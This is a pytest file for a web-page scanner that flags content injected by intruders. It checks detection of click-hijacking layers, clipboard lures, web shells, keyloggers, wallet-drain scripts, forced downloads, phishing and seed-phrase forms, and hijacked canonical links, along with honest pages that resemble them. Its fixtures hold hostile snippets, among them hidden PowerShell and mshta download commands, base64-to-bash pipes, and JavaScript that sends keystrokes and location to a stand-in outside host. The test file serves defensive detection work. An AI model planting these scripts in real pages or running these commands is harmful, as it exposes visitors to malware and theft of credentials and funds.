"""Layers, commands, shells and link farms of intruders, and the honest pages that look like them."""

from __future__ import annotations

import pytest

from pagegrade.model.document import Document
from pagegrade.parse.html.injected_content import foreign_links
from pagegrade.parse.html.injected_lures import MAX_FORM_TEXT, find_lures
from pagegrade.parse.html.parser import parties_of_document
from tests.builders import make_document

HEAD = "<!doctype html><title>ที่พัก</title><h1>ห้องพัก</h1><p>ห้องสะอาดใกล้ตลาด</p>"
LAYER = "position:fixed;top:0;left:0;width:100%;height:100%;z-index:99999"
LOADER = "powershell -w hidden -c iwr https://x.example/a"


def found_in(document: Document) -> set[str]:
    """Kinds of what is found in a document."""
    parties = parties_of_document(document)
    return {one.kind for one in find_lures(document, parties, foreign_links(document, parties))}


def kinds(html: str, *, head: str = HEAD) -> set[str]:
    """Kinds of what is found in a page."""
    return found_in(make_document(head + html))


@pytest.mark.parametrize(
    ("html", "is_found"),
    [
        (f"<a href=https://bet.test-bet.com/ style='{LAYER};opacity:0'></a>", True),
        (f"<div style='{LAYER}'><a href=https://bet.test-bet.com/></a></div>", True),
        (f"<a href=/offers style='{LAYER}'></a>", False),
        (f"<a href=https://bet.test-bet.com/ style='{LAYER}'><img src=/a.jpg alt=a></a>", False),
        ("<a href=https://bet.test-bet.com/ style='position:absolute;inset:0;z-index:20'></a>", False),
    ],
)
def test_an_invisible_link_over_the_window_takes_every_click(html: str, *, is_found: bool) -> None:
    """One that lies over a card, or shows something, does not."""
    assert ("click-layer" in kinds(html)) == is_found


@pytest.mark.parametrize(
    ("command", "is_found"),
    [
        (LOADER, True),
        ("powershell.exe -NoP -enc SQBFAFgAIABpAHcAcgAgAGgA", True),
        ("mshta https://x.example/a.hta", True),
        ("echo aGk= | base64 -d | bash", True),
        ("powershell -c irm https://x.example/i.ps1", False),
        ("curl -fsSL https://x.example/i.sh | sh", False),
    ],
)
def test_a_command_to_paste_hides_what_it_does(command: str, *, is_found: bool) -> None:
    """Instructions for a program do not."""
    handler = f"<button onclick=\"navigator.clipboard.writeText('{command}')\">1</button>"
    script = f"<script>go.onclick=()=>navigator.clipboard.writeText('{command}')</script>"

    assert ("paste-command" in kinds(handler)) == is_found
    assert ("paste-command" in kinds(script)) == is_found
    assert kinds(f"<p>Never paste <code>{command}</code> anywhere.</p>") == set()


@pytest.mark.parametrize(
    ("html", "is_found"),
    [
        ("<div><form><input name=cmd></form><pre>{}</pre></div>", True),
        ("<div><form method=post><input type=file name=f></form><p>{}</p></div>", True),
        ("<form role=search><input name=q></form><article><pre>{}</pre></article>", False),
        ("<div><form><input name=n><input name=m><textarea></textarea></form><pre>{}</pre></div>", False),
    ],
)
def test_a_form_with_the_output_of_a_command_is_a_shell(html: str, *, is_found: bool) -> None:
    """A lesson with a search beside it is none."""
    shown = html.format("uid=33(www-data) gid=33(www-data) groups=33(www-data)")

    assert ("web-shell" in kinds(shown)) == is_found
    assert kinds(html.format("user 33")) == set()


def test_a_block_of_links_to_sellers_is_a_farm() -> None:
    """Of what the page is not about; a directory of other things is none, and fewer are none."""
    names = "abcdefghijklmnopqrst"
    goods = [f"<a href=https://{name}{name}.org/>casino</a>" for name in names]
    directory = [f"<a href=https://{name}{name}.org/>{name}</a>" for name in names]
    topic = "<title>Casino</title><h1>Casino</h1><p>Casino, casino and casino.</p>"

    assert "link-farm" in kinds(f"<footer>{' '.join(goods)}</footer>")
    assert "link-farm" in kinds(f"<footer>{' '.join((*goods, *directory, *directory))}</footer>")
    assert kinds(f"<div>{' '.join(directory)}</div>") == set()
    assert kinds(f"<footer>{' '.join(goods[:10])}</footer>") == set()
    assert kinds("".join(goods), head=topic) == set()


AWAY = "https://win.test-bet.com/"
POP = "for(var i=0;i<9;i++)history.pushState({},'',location.href);addEventListener('popstate',function(){%s})"
PLACE = "navigator.geolocation.getCurrentPosition(p=>{fetch('%s'+p.coords.latitude)})"
ASK = "ethereum.request({method:'eth_requestAccounts'}).then(a=>ethereum.request({method:'eth_sendTransaction'}))"
LOAD = "var a=document.createElement('a');a.href='%s';a.click()"


@pytest.mark.parametrize(
    ("script", "kind"),
    [
        (POP % f"location.href='{AWAY}'", "back-trap"),
        (POP % "location.href='/basket'", None),
        ("while(true){alert('0x80072ee7')}", "dialog-loop"),
        ("for(;;) confirm('?')", "dialog-loop"),
        ("while(true){var n=prompt('?');if(n){break}}", None),
        ("while(i<3){alert(i++)}", None),
        ("setInterval(function(){history.pushState(1,'','');alert('+1 888')},500)", "dialog-loop"),
        ("setInterval(() => confirm('?'), 100)", "dialog-loop"),
        ("setInterval('alert(1)', 100)", "dialog-loop"),
        ("setInterval(function(){ if (late) { alert('?') } }, 100)", None),
        ("var t=setInterval(()=>{alert(1);clearInterval(t)},100)", None),
        ("setInterval(tick, 100); function tick(){ now() } alert('?')", None),
        (LOAD % f"{AWAY}update.exe", "forced-download"),
        (LOAD % "/setup.exe", None),
        (LOAD % f"{AWAY}report.pdf", None),
        (f"b.addEventListener('click',()=>{{{LOAD % (AWAY + 'update.exe')}}})", None),
        (ASK, "wallet-request"),
        (f"pay.onclick=()=>{ASK}", None),
        (f"var k='';onkeydown=e=>{{k+=e.key;fetch('{AWAY}?k='+k)}}", "key-logger"),
        ("var k='';onkeydown=e=>{k+=e.key;fetch('/search?k='+k)}", None),
        (PLACE % AWAY, "permission-trap"),
        (PLACE % "/near?at=", None),
        (f"near.onclick=()=>{{{PLACE % AWAY}}}", None),
        (f"if(asked){{{PLACE % AWAY}}}", None),
        (f"onload=()=>{{Notification.requestPermission().then(()=>{{location.href='{AWAY}'}})}}", "permission-trap"),
    ],
)
def test_scripts_that_hold_visitors_or_take_from_them(script: str, kind: str | None) -> None:
    """Without being asked, and for another site."""
    assert kinds(f"<script>{script}</script>") == ({kind} if kind else set())


def test_a_download_that_a_link_offers_is_wanted() -> None:
    """The link is there in case that it does not start by itself."""
    address = f"{AWAY}setup.exe"

    assert kinds(f"<a href={address}>ดาวน์โหลด</a><script>{LOAD % address}</script>") == set()


@pytest.mark.parametrize(
    ("html", "is_found"),
    [
        (f"<iframe src={AWAY} style='{LAYER};opacity:0'></iframe>", True),
        (f"<div style='{LAYER};opacity:.02'><iframe src={AWAY}></iframe></div>", True),
        (f"<iframe src={AWAY} style='{LAYER};opacity:0;pointer-events:none'></iframe>", False),
        (f"<iframe src={AWAY} style='{LAYER};opacity:.5'></iframe>", False),
        (f"<iframe src={AWAY} style='position:fixed;width:9px;opacity:0;z-index:99'></iframe>", False),
        (f"<iframe src=/consent style='{LAYER};opacity:0'></iframe>", False),
    ],
)
def test_frames_that_take_every_press(html: str, *, is_found: bool) -> None:
    """Of another site, over the whole window and unseen."""
    assert kinds(html) == ({"click-layer"} if is_found else set())


CARD = "<input name=n autocomplete='billing cc-number'>"
AT_ONCE = "<form action=/join><label>อีเมล <input name=e autocomplete=email></label>{}<button>ส่ง</button></form>"


@pytest.mark.parametrize("style", ["position:absolute;left:-9999px", "opacity:0", "clip-path:inset(50%)"])
def test_fields_for_a_card_that_no_one_sees_are_a_trap(style: str) -> None:
    """Browsers fill them in; those that a choice shows are not drawn before it."""
    assert kinds(AT_ONCE.format(f"<div style='{style}'>{CARD}</div>")) == {"field-trap"}
    assert kinds(AT_ONCE.format(f"<div style='display:none'>{CARD}</div>")) == set()
    assert kinds(AT_ONCE.format(CARD)) == set()
    assert kinds(AT_ONCE.format(f"<div style='{style}'><input name=website autocomplete=off></div>")) == set()


@pytest.mark.parametrize(
    ("script", "is_found"),
    [
        (f"document.addEventListener('keypress',e=>{{(new Image).src='{AWAY}?k='+e.key}})", True),
        (f"onkeydown=e=>{{navigator.sendBeacon('{AWAY}',e.keyCode)}}", True),
        ("document.addEventListener('keyup',e=>{fetch('/search?k='+e.key)})", False),
        (f"document.addEventListener('keyup',e=>{{warn('see {AWAY}',e.key);fetch('/log')}})", False),
        (f"document.addEventListener('keyup',e=>{{if(e.key=='/')q.focus()}});fetch('{AWAY}')", False),
    ],
)
def test_keys_that_are_sent_one_by_one(script: str, *, is_found: bool) -> None:
    """Behind the address of another site."""
    assert kinds(f"<script>{script}</script>") == ({"key-logger"} if is_found else set())


STAY = "onbeforeunload = function () { return 'Stay'; }; "
BACK = "window.addEventListener('popstate', () => { history.pushState(null, ''); }); "
KEYS = "document.onkeydown = function (e) { e.preventDefault(); }; "
FULL = "document.addEventListener('click', function () { document.documentElement.requestFullscreen(); }); "
ANY = (
    "document.addEventListener('click', function () { document.documentElement.requestFullscreen();"
    " ok && ok.play() }); "
)
HEAP = "for (var i = 0; i < 50; i++) history.pushState({}, '', '#' + i); "


@pytest.mark.parametrize(
    ("script", "is_found"),
    [
        (f"window.{STAY}{BACK}", True),
        (f"{KEYS}{FULL}", True),
        (f"{BACK}{FULL}", True),
        (f"window.{STAY}{ANY}", True),
        (f"window.{STAY}{HEAP}", True),
        (f"{ANY}{HEAP}", True),
        (f"window.{STAY}navigator.keyboard?.lock(); requestFullscreen()", True),
        (f"{ANY}", False),
        (f"{HEAP}", False),
        (f"{ANY.replace('document.', 'player.')}{HEAP}", False),
        (f"{ANY.replace('document.', 'document.getElementById(1).', 1)}{HEAP}", False),
        (f"window.{STAY}navigator.keyboard.lock(['Escape']); requestFullscreen()", False),
        (f"window.{STAY}tabs.onclick = () => {{ history.pushState({{}}, ''); }}; requestFullscreen()", False),
        (f"window.{STAY}", False),
        (BACK, False),
        (f"window.addEventListener('beforeunload', e => {{ if (dirty) {{ e.preventDefault(); }} }}); {BACK}", False),
        (f"player.addEventListener('click', () => {{ player.requestFullscreen(); }}); {BACK}", False),
    ],
)
def test_scripts_that_keep_visitors_from_leaving(script: str, *, is_found: bool) -> None:
    """In two ways at once, and on no condition."""
    assert kinds(f"<script>{script}</script>") == ({"held-visitor"} if is_found else set())


def test_programs_that_a_refresh_or_a_frame_brings() -> None:
    """Unless a link offers them, in case that they do not come by themselves."""
    refresh = "<meta http-equiv=refresh content='3; url=/files/Player_update.exe'>"

    assert kinds(refresh) == {"forced-download"}
    assert kinds("<iframe src=/files/setup.msi></iframe>") == {"forced-download"}
    assert kinds(f"{refresh}<a href=/files/Player_update.exe>Download</a>") == set()
    assert kinds("<meta http-equiv=refresh content='3; url=/files/'>") == set()


PINS = "<form method=post><input name=card_number><input name=cvv><input type=password name=p></form>"
OTHERS = "<img src=https://www.zahlwerk.example/logo.png>" + "<a href=https://www.zahlwerk.example/{0}>x</a>" * 3


def imitates(page: str, url: str) -> bool:
    """Return whether a page at an address is made to look like another site."""
    return "imitation" in found_in(make_document(page, url=url))


@pytest.mark.parametrize(
    ("url", "title", "body", "is_one"),
    [
        ("https://zahlwerk-konto.fliesen.example/", "Konto", PINS + OTHERS, True),
        ("https://www.zahlwerk.example.fliesen.test/", "Konto", PINS + OTHERS, True),
        ("https://fliesen.example/", "Zahlwerk: კარტა", PINS + OTHERS, True),
        ("https://fliesen.example/", "Zahlwerk", "<input type=password>" + OTHERS, False),
        ("https://zahlwerk.anmelden.example/", "Zahlwerk", "<input type=password>" + OTHERS, False),
        ("https://fliesen.example/", "Konto", PINS + OTHERS, False),
        ("https://zahlwerk-konto.fliesen.example/", "Konto", OTHERS, False),
        ("https://zahlwerk-konto.fliesen.example/", "Konto", PINS + OTHERS + "<a href=/a>a</a><a href=/b>b</a>", False),
        ("https://konto.zahlwerk.example/", "Zahlwerk", PINS + OTHERS, False),
    ],
)
def test_page_that_wears_the_name_of_another_site_and_asks_for_secrets(
    url: str, title: str, body: str, *, is_one: bool
) -> None:
    """Its own sign-in, one that is run for it under its name, and a page with links of its own are none."""
    assert imitates(f"<title>{title}</title><h1>{title}</h1>{body}", url) == is_one


ASKED = "<form method=post action={}><input type=password name=p></form>"
CARD_FORM = "<form method=post action={}><p><input autocomplete=cc-number></p></form>"
FILES = "https://fliesen.example/wp-content/uploads/2026/"
CODE = "https://code.example/WordPress/src/branch/main"


@pytest.mark.parametrize(
    ("url", "body", "is_one"),
    [
        ("https://fliesen.example/wp-includes/fonts/p/a.php", ASKED.format("''"), True),
        ("https://fliesen.example/.well-known/pki-validation/x/", ASKED.format("next.php"), True),
        ("https://fliesen.example/blog/wp-content/upgrade/a/", CARD_FORM.format("''"), True),
        (f"{FILES}a.php", CARD_FORM.format("a.php"), True),
        (f"{FILES}a/", ASKED.format("next.php"), True),
        ("https://fliesen.example/sites/default/files/a/b.html", ASKED.format("next.php"), True),
        (f"{CODE}/wp-includes/user.php/", ASKED.format("/user/login"), False),
        (f"{CODE}/wp-includes/user.php/", "<form method=post></form>" + ASKED.format("/user/login"), False),
        (f"{CODE}/wp-content/uploads/a.php", ASKED.format("/user/login"), False),
        ("https://code.example/xref/wordpress/wp-includes/user.php.html", ASKED.format("/xref/login"), False),
        ("https://fliesen.example/wp-includes/fonts/p/a.php", "<input type=password>", False),
        ("https://fliesen.example/wp-includes/fonts/p/a.php", "<input type=search>", False),
        (f"{FILES}a/", ASKED.format("next.php").replace("method=post", ""), False),
        (f"{FILES}a/", ASKED.format("/lms/login"), False),
        (f"{FILES}a/b.pdf", ASKED.format("''"), False),
        (f"{FILES}a/b.pdf", ASKED.format("/wp-login.php"), False),
        ("https://fliesen.example/wp-content/plugins/members/login.php", ASKED.format("login.php"), False),
        ("https://fliesen.example/wp-content/themes/shop/forms.html", ASKED.format("a.php"), False),
        ("https://fliesen.example/wp-login.php", "<input type=password>", False),
        ("https://fliesen.example/.well-known/change-password/", "<input type=password>", False),
        ("https://fliesen.example/help?of=/wp-includes/a/", "<input type=password>", False),
    ],
)
def test_form_for_secrets_where_the_site_has_no_page(url: str, body: str, *, is_one: bool) -> None:
    """Files of editors, the password of a file, plugins, a sign-in and source text with one are none."""
    assert ("stray-form" in found_in(make_document(f"<title>x</title>{body}", url=url))) is is_one


@pytest.mark.parametrize(("around", "is_one"), [(11, True), (12, False)])
def test_only_so_far_up_to_the_form_of_a_field(around: int, *, is_one: bool) -> None:
    """At the limit and one past it."""
    body = ASKED.format("next.php").replace("<input", "<div>" * around + "<input")

    assert ("stray-form" in found_in(make_document(f"<title>x</title>{body}", url=f"{FILES}a/"))) is is_one


def words_of(number: int, *, name: str = "w{}", first: int = 1, more: str = "") -> str:
    """Numbered fields."""
    return "".join(f"<label>{n}<input name={name.format(n)} {more}></label>" for n in range(first, first + number))


SENT = "<title>x</title><form method=post action=/api>{}<button>OK</button></form>"
WALLET = "<select name=wallet><option>MetaMask<option>Trezor</select>"
ANY = "<select name=wallet><option>Browser wallet<option>Hardware wallet</select>"
EXACT = "autocapitalize=none"
KINDS = "<select name=wallet><option>{0} wallet<option>{1} wallet<option>{2} Wallet</select>"
PARTS = words_of(12, name="word{}", more=EXACT)
NAMED = '<textarea name="{}" placeholder="wallet"></textarea>'
PURSE = "<p>wallet, purse, seed</p>"
CVC = "<input name=cvv>"
PIN = "<input type=password name=card_pin>"
AGAIN = "<input type=password name=mdp>"
BANK = f"<input name=ident>{AGAIN}"
NUMBER = "<input name=cardnumber autocomplete=cc-number><input name=exp autocomplete=cc-exp>"
GIFT = "<input name={}><input type=password name={} maxlength=4>"


@pytest.mark.parametrize(
    "body",
    [
        f"<h1>Восстановите кошелёк</h1>{WALLET}{words_of(12)}",
        f"<h1>ウォレットの復元</h1>{WALLET}{words_of(24, name='phrase[{}]', first=0)}",
        f"<h1>استعادة المحفظة</h1>{WALLET}{words_of(15, name='seed-{}')}",
        f"<p>BIP-39</p>{words_of(12, name='word{}')}",
        f"<p>Trust Wallet</p>{words_of(21, name='recoveryWord_{}')}",
        words_of(12, name="recovery_phrase_{}"),
        f"<h1>กู้คืน</h1>{WALLET}{words_of(18, name='k{}', more='type=password')}",
        f"<h1>Walet</h1>{NAMED.format('seed_phrase')}",
        f"<h1>지갑</h1>{WALLET}{NAMED.format('mnemonic')}",
        f"<h1>Πορτοφόλι</h1>{NAMED.format('recovery-phrase')}",
        f"<h1>Проверка</h1>{ANY}{words_of(12, more=EXACT)}",
        f"<h1>지갑</h1>{ANY}{words_of(24, more='spellcheck=false')}",
        f"<h1>Cüzdan</h1>{ANY}{words_of(12, more='type=password')}",
        f"<h1>Colis</h1>{CVC}{PIN}{BANK}",
        f"<h1>Пошта</h1><input autocomplete=cc-csc>{PIN}<input name=user>{BANK}",
        f"<h1>包裹</h1>{CVC}<input type=password id=pin>{BANK}",
        f"<h1>Livraison</h1>{BANK}{PIN}<input name=cvc type=password>",
    ],
)
def test_form_for_secrets_that_no_site_needs(body: str) -> None:
    """The words of a wallet, or all that opens a card and a bank, in any language."""
    assert "forbidden-field" in found_in(make_document(SENT.format(body)))


@pytest.mark.parametrize(
    "page",
    [
        SENT.format(WALLET + words_of(11)),
        SENT.format(WALLET + words_of(13)),
        SENT.format(WALLET + words_of(12, more="maxlength=1")),
        SENT.format(WALLET + words_of(6) + words_of(6, first=8)),
        SENT.format(words_of(12, name="player{}")),
        SENT.format(WALLET + words_of(12, more="type=number")),
        SENT.format(WALLET + words_of(12)).replace("method=post", ""),
        f"<title>Converter</title><p>wallet</p><textarea id=mnemonic></textarea>{words_of(12)}",
        SENT.format("<textarea name=mnemonic></textarea><p>忘れない</p>"),
        SENT.format("<textarea name=private_key></textarea><p>PEM</p>"),
        SENT.format(CVC + BANK),
        SENT.format(PIN + BANK),
        SENT.format(CVC + PIN),
        SENT.format(CVC + "<input name=pin_code>" + BANK),
        SENT.format(CVC + PIN + "<input type=password name=p autocomplete=new-password>"),
        SENT.format(CVC + PIN) + ASKED.format("/login"),
        SENT.format(PURSE + words_of(12, name="team{}")),
        SENT.format(PURSE + words_of(15, name="seed{}")),
        SENT.format(PURSE + words_of(24, name="variety_{}")),
        SENT.format(PURSE + words_of(12, name="name_{}")),
        SENT.format(PURSE + words_of(12, name="month{}")),
        SENT.format(PURSE + words_of(12, name="word{}")),
        SENT.format(WALLET + words_of(12, name="address_{}")),
        SENT.format(WALLET + words_of(12, name="keyword{}")),
        SENT.format("<p>種子の注文</p>" + PURSE + words_of(12, name="品種{}")),
        SENT.format("<p>أسماء الفرق</p>" + PURSE + words_of(18, name="فريق{}")),
        SENT.format("<p>Сорта семян</p>" + PURSE + words_of(21, name="сорт{}")),
        SENT.format(PURSE + "<input name=mnemonic>"),
        SENT.format(BANK + GIFT.format("gift_card_number", "gift_card_pin") + NUMBER + CVC),
        SENT.format(BANK + NUMBER + CVC + GIFT.format("voucher", "pin")),
        SENT.format(BANK + GIFT.format("geschenkkarte", "geschenkkarte_pin") + NUMBER + CVC),
        SENT.format(BANK + NUMBER + CVC + GIFT.format("カード番号", "pin")),
        SENT.format(BANK + NUMBER + CVC + GIFT.format("carte_fidelite", "carte_fidelite_pin")),
        SENT.format(BANK + GIFT.format("بطاقة", "pin") + NUMBER + CVC),
        SENT.format(CVC + "<input type=password name=pin><input type=password name=pin2>" + BANK),
        SENT.format(CVC + "<input type=password name=new_pin>" + BANK),
        SENT.format(CVC + PIN + "<input type=password name=p1><input type=password name=p2>"),
        SENT.format(ANY + words_of(12)),
        SENT.format(ANY + words_of(11, more=EXACT)),
        SENT.format(ANY + words_of(11, more=EXACT) + "<input name=w12>"),
        SENT.format(ANY + words_of(12, name="member{}", more=EXACT)),
        SENT.format(ANY.replace("Browser wallet", "Browser") + words_of(12, more=EXACT)),
        SENT.format("<p>Add it to Apple Wallet, Google Wallet or the wallet of our app.</p>" + PARTS),
        SENT.format("<p>Гравировка: Wallet 1, Wallet 2, Wallet 3, Wallet 4</p>" + PARTS),
        SENT.format(KINDS.format("Apple", "Google", "محفظة") + PARTS),
        SENT.format(KINDS.format("Slim", "Leather", "長財布") + PARTS),
        SENT.format("<p>A hardware wallet or a browser wallet? A desktop wallet?</p>" + PARTS),
        SENT.format("<p>Портмоне: wallet</p>" + words_of(12, more=EXACT)),
        SENT.format("<p>財布 wallet, 鍵 key</p>" + words_of(24, more="spellcheck=false")),
        SENT.format(NUMBER + CVC + PIN + AGAIN),
        SENT.format(AGAIN + NUMBER + CVC + PIN),
        SENT.format(PIN + CVC + AGAIN),
    ],
)
def test_form_for_what_sites_do_need(page: str) -> None:
    """Teams, plants, purses, tools that send nothing, keys of servers, tills, gift cards, postal codes, banks."""
    assert "forbidden-field" not in found_in(make_document(page))


@pytest.mark.parametrize(("padding", "is_one"), [(-1, True), (0, True), (1, False)])
def test_only_so_far_into_a_form_a_wallet_is_looked_for(padding: int, *, is_one: bool) -> None:
    """The name of the wallet ends at the limit, or one character behind it."""
    before = len('<form method="post" action="/api"><p></p>') + len("MetaMask")
    body = f"<p>{'x' * (MAX_FORM_TEXT - before + padding)}</p>MetaMask{words_of(12)}"

    assert ("forbidden-field" in found_in(make_document(SENT.format(body)))) is is_one


TAKEN = (
    "<link rel=canonical href=https://slots.test/><link rel=amphtml href=https://amp.slots.test/a>"
    "<link rel=alternate hreflang=id href=https://slots.test/>"
)
OWN = "<meta property=og:url content=https://example.com/b><a href=/a>1</a><a href=/b>2</a><a href=/c>{}</a>"


def is_taken(head: str, url: str = "https://example.com/b") -> bool:
    """The canonical link leads to a site that nothing else of the page knows."""
    return "taken-canonical" in found_in(make_document(f"<title>x</title>{head}", url=url))


@pytest.mark.parametrize("text", ["Surat domisili", "Услуги", "住民票", "الخدمات", "บริการ", "Bürgerbüro"])
def test_canonical_links_that_intruders_have_turned(text: str) -> None:
    """By the address of the page in its data, too; its own versions, or a link to that site, are another matter."""
    own = OWN.format(text)
    data = '<script type=application/ld+json>{"url": "https://example.com/b"}</script>'

    assert is_taken(TAKEN + own)
    assert is_taken(TAKEN + data + own[own.index("<a") :])
    for harmless in (
        f"<link rel=canonical href=https://slots.test/>{own}",
        f"{TAKEN}<link rel=alternate hreflang=en href=https://example.com/en>{own}",
        f"{TAKEN}{own.replace('content=https://example.com', 'content=https://slots.test')}",
        f"{TAKEN}{own}<a href=https://slots.test/about>Us</a>",
        f"{TAKEN}{own}<script src=https://cdn.slots.test/a.js></script>",
        f"{TAKEN.replace('slots.test', 'example.com')}{own}",
        f"{TAKEN}{own.replace('<a href=/c>', '')}",
    ):
        assert not is_taken(harmless)


def test_a_page_that_has_moved_keeps_its_path() -> None:
    """All of its versions lead to the new site."""
    moved = TAKEN.replace("slots.test/>", "slots.test/b>")

    assert not is_taken(moved + OWN)
    assert is_taken(moved + OWN.replace("/b>", "/d>", 1), "https://example.com/d")
